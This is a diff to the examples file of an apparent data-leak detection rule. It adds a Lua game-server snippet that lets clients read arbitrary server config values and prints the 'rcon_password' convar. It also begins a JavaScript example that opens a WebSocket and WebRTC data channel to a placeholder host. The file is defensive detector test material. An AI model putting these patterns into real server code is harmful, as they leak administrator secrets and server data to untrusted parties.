@@ -3,6 +3,15 @@ import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'
 
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
+    lua(`AddStateBagChangeHandler('prefs', '', function(bag, _, names)
+  local values = {}
+  for _, name in ipairs(names) do
+    if name == nil then name = 'locale' end
+    values[name] = GetConvar(name, '')
+  end
+^ Player(idOf(bag)).state:set('values', values, true)
+end)
+print(GetConvar('rcon_password', ''))`),
     js(
       `new WebSocket('wss://signal.a.example')
 const channel = new RTCPeerConnection({}).createDataChannel('q')
